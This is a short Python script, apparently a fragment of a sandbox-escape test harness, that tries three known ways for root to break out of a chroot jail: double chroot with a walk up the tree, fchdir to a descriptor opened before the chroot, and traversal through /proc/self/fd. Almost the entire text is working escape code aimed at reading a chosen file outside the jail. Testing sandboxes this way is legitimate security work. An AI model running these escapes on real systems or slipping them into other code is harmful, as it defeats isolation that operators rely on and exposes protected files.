# chroot-break: root in a chroot makes a directory, chroots into it while its working directory stays outside, and walks up.
# Arguments: the file outside that is to be reached, and the root to chroot to first, where there is no other wall.
target = sys.argv[1]
if len(sys.argv) > 2:
    os.chroot(sys.argv[2])
    os.chdir("/")


def walk_up():
    os.makedirs("/tmp/jail", exist_ok=True)
    os.chdir("/")
    os.chroot("/tmp/jail")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return os.path.exists(target) and open(target).read()


def by_descriptor():
    outside = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    os.makedirs("/tmp/jail2", exist_ok=True)
    os.chroot("/tmp/jail2")
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return os.path.exists(target) and open(target).read()


def inherited_descriptors():
    for name in os.listdir("/proc/self/fd"):
        path = "/proc/self/fd/%s/../../../../../../../../.." % name
        if os.path.exists(path + target):
            return open(path + target).read()
    return None


attempt("a descriptor that leads outside", inherited_descriptors)
attempt("chroot again and walk up", walk_up)
attempt("chroot again and walk up from a descriptor", by_descriptor)
done()
